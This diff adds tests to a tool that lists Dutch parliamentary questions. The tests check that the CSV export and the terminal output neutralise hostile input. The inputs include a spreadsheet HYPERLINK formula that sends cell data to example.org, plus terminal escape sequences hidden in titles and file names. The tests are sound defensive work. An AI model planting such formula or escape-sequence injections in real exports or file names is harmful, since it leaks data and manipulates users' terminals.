@@ -110,6 +110,38 @@ describe('kamervraag list', () => {
     assert.match(r.out, /"Het ""verdwijnen"", van de polis"/);
   });
 
+  it('csv: a text a spreadsheet would read as a formula gets the \' that keeps it text; numbers stay numbers', () => {
+    const dir = examples();
+    const file = path.join(dir, '2024Z18439.txt');
+    fs.writeFileSync(file, fs.readFileSync(file, 'utf8')
+      .replace(/^(Kamervraag 2024Z18439\n\n)(.*)$/m, '$1=HYPERLINK("https://example.org/?"&A1,"Klik")')
+      .replace(/^Indieners? .*$/m, 'Indieners @Jansen (SP), Jansen (D66)'));
+    const r = list(['--format', 'csv', dir], { KAMERVRAAG_TODAY: '2024-12-10' });
+    assert.equal(r.code, 0, r.err);
+    const row = parseCsv(r.out).find((x) => x[1] === '2024Z18439')!;
+    assert.deepEqual(row.slice(2, 4), ['\'=HYPERLINK("https://example.org/?"&A1,"Klik")', '\'@Jansen (SP); Jansen (D66)']);
+    assert.equal(row[7], '-5', 'days late: a number, unquoted');
+    assert.match(r.out, /,-5,/);
+  });
+
+  it('text: a control character in a title or file name is shown as \\xHH, not sent to the terminal', () => {
+    const dir = tempDir();
+    const text = fs.readFileSync(path.join(ROOT, EXAMPLES, '2024Z18439.txt'), 'utf8')
+      .replace(/^(Kamervraag 2024Z18439\n\n)(.*)$/m, '$1Het \x1b]8;;https://example.org\x07verdwijnen\x1b]8;;\x07 \x1b[2J\x9b31m');
+    fs.writeFileSync(path.join(dir, 'a\x1b[31mb.txt'), text);
+    fs.writeFileSync(path.join(dir, 'c\nd.kvr'), 'Kamervraag 2024Z1\x1b[2J\n');
+    // Every control character but the line ends.
+    // eslint-disable-next-line no-control-regex
+    const control = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
+    const r = list([dir]);
+    assert.doesNotMatch(r.out + r.err, control);
+    assert.match(r.out, /Het \\x1b\]8;;https:\/\/example\.org\\x07verdwijnen\\x1b\]8;;\\x07 \\x1b\[2J\\x9b31m\n/);
+    const c = run(['check', dir]);
+    assert.doesNotMatch(c.out + c.err, control);
+    assert.match(c.out, /a\\x1b\[31mb\.txt:\d+:\d+ /);
+    assert.match(c.out, /c\\x0ad\.kvr:1:12 error zaaknummer-malformed '2024Z1\\x1b\[2J' /);
+  });
+
   it('the term comes from the .kamervraag.json above the file', () => {
     const dir = examples();
     fs.writeFileSync(path.join(dir, '.kamervraag.json'), '{ "answerTermDays": 42 }');
